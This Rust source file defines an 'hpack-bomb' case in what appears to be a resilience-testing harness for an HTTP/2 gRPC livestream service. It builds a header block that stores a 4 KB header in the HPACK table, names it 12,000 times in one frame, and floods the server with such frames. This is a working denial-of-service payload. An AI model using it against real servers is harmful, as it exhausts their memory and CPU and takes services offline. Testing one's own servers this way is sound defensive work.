//! HPACK bomb: a large header in the table, named thousands of times by one byte each.

use prost::encoding::encode_varint;

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case};
use crate::frames::{END_HEADERS, HEADERS, frame};
use crate::link::LIVESTREAMS;

/// Bytes of the header; with its name it fills the table of 4 096 bytes.
const VALUE: usize = 4_000;
/// How often it is named in a frame.
const TIMES: usize = 12_000;
/// The first entry of the dynamic table, as one byte.
const NAMED: u8 = 0xbe;

pub(super) struct HpackBomb;

impl Case for HpackBomb {
    fn name(&self) -> &'static str {
        "hpack-bomb"
    }

    fn does(&self) -> &'static str {
        "names a header of 4 KB 12 000 times in one frame, again and again"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        // A literal that goes into the table, with its length in the form for long ones.
        let mut stored = b"\x40\x01b\x7f".to_vec();
        // What does not fit into seven bits follows as protobuf writes numbers.
        encode_varint(VALUE as u64 - 127, &mut stored);
        stored.extend_from_slice(&[b'a'; VALUE]);
        let mut block = attacker.call_headers(&format!("{LIVESTREAMS}GetLivestream"));
        block.extend_from_slice(&stored);
        block.resize(block.len() + TIMES, NAMED);
        Box::pin(async move {
            hold_floods(attacker, &[], |out, number| frame(out, HEADERS, END_HEADERS, 2 * number + 1, &block)).await
        })
    }
}
